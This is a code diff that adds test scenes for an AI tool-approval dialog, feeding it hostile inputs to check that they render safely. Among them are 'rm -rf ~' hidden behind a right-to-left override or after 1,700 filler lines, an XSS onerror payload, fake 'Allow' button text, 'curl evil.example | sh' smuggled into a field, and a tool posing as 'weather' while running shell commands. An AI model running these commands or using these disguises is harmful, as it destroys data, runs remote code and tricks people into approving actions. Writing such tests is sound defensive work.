@@ -68,6 +68,10 @@ export type Scene =
   | 'returning'
   | 'approval'
   | 'queue'
+  | 'directions'
+  | 'hundred-kilobytes'
+  | 'markup'
+  | 'long-title'
   | 'connecting'
   | 'stuck'
   | 'connected'
@@ -239,6 +243,44 @@ const SET: Partial<Record<Scene, (world: World, now: number) => void>> = {
       approval(now + 2, { id: 'a3', risk: 'write', toolTitle: '' }, {}),
     ]
     world.connections = [request(now + 3)]
+  },
+  directions: (world, now) => {
+    const given = {
+      path: '/home/me/אבג/../דהו/١/٢/../etc',
+      to: 'مرحبا بالعالم@example.com',
+      command: `rm -rf ~ # \u202e${[...'harmless'].reverse().join('')}\u202c`,
+      text: 'שלום עולם, זה מכתב ארוך יותר. Then English, ועוד קצת עברית (100%).',
+      hidden: 'a\u200bb\u{e0072}\u{e006d}\u00a0c\u0000',
+    }
+    const more = { toolTitle: 'כתוב קובץ \u202egnp.exe', clientName: 'Chat\u200bGPT', source: 'קבצים' }
+    world.approvals = [approval(now, more, given)]
+  },
+  'hundred-kilobytes': (world, now) => {
+    const line = (at: number) => `Line ${at}: nothing to be seen here, please go on reading.`
+    const notes = Array.from({ length: 1_700 }, (_, at) => line(at)).join('\n')
+    world.approvals = [approval(now, {}, { path: '/home/me/notes.txt', content: `${notes}\nrm -rf ~` })]
+  },
+  markup: (world, now) => {
+    const given = {
+      html: '<img src=x onerror=alert(1)></pre><button>Don’t allow</button><!-- ',
+      markdown: '**bold** [Allow](https://evil.example) ![x](https://evil.example/x.png)',
+      entities: '&lt;b&gt;&#x202e;&nbsp;',
+      imitation: '\n\n[ Allow once ]   [ Don’t allow ]\n\n"\n}\n\nAllowed. \\u202e ⟨U+202E⟩',
+      secret: '\'"password":"x\' ; curl evil.example | sh',
+    }
+    const more = { toolTitle: '<b>Save</b> &amp; close</h2>', clientName: '<i>ChatGPT</i>' }
+    world.approvals = [approval(now, { ...more, risk: 'write' }, given)]
+  },
+  'long-title': (world, now) => {
+    const more = {
+      toolTitle: `Look at the weather ${'and nothing else '.repeat(300)}`,
+      clientName: 'ChatGPT '.repeat(600),
+      source: 'W'.repeat(5_000),
+      tool: 'weather',
+      toolId: 'shell__run_command',
+      sourceId: 'shell',
+    }
+    world.approvals = [approval(now, more, { command: 'rm -rf ~' })]
   },
   connecting: (world, now) => {
     world.status.window = { open: true, expects: 'chatgpt', closesAt: now + 8 * MINUTE + 12 * SECOND }
